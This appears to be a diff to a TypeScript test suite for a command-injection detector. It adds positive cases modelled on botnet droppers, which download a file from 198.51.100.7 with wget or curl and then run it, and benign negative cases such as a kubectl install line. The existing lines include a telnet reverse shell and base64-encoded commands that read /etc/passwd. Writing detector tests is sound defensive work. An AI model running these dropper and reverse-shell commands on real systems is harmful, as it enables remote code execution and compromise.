@@ -825,6 +825,11 @@ const LIVING_OFF_THE_LAND: Case[] = [
   ["query", "x=" + encodeURIComponent("telnet 198.51.100.7 4444 | /bin/bash | telnet 198.51.100.7 4445")],
   ["query", "x=" + encodeURIComponent("echo YmFzaCAtaQ== | base64 -d | bash")],
   ["body:json", JSON.stringify({ cmd: "base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh" })],
+  // A botnet's dropper: a download from an address, then the file run.
+  ["query", "x=" + encodeURIComponent("cd /tmp; wget http://198.51.100.7/mozi.m; chmod 777 mozi.m; ./mozi.m")],
+  ["body:json", JSON.stringify({ host: "cd /tmp && wget http://198.51.100.7/x && sh x" })],
+  ["body:form", "c=" + encodeURIComponent("curl http://198.51.100.7:8080/x -o /tmp/x; chmod +x /tmp/x; /tmp/x")],
+  ["query", "x=" + encodeURIComponent("busybox wget http://198.51.100.7/bins.sh; sh bins.sh")],
 ];
 const NOT_LIVING_OFF_THE_LAND: Case[] = [
   // The programs' everyday arguments, and sentences that name them.
@@ -855,6 +860,10 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["query", "q=" + encodeURIComponent("netcat -l 1234")],
   ["body:json", JSON.stringify({ text: "nc -e is disabled in Debian's netcat" })],
   ["body:json", JSON.stringify({ text: "business plan -e draft | shared" })],
+  // An install line fetches from a name; a download from an address that runs nothing; a directory changed.
+  ["body:json", JSON.stringify({ run: "curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl && chmod +x kubectl" })],
+  ["body:json", JSON.stringify({ run: "wget http://192.168.1.20/backup.tar.gz && tar xzf backup.tar.gz" })],
+  ["body:json", JSON.stringify({ run: "cd docs && make html" })],
 ];
 
 // A path with the shell's wildcards that names a program or an OS file (globpath.ts): rce or traversal.
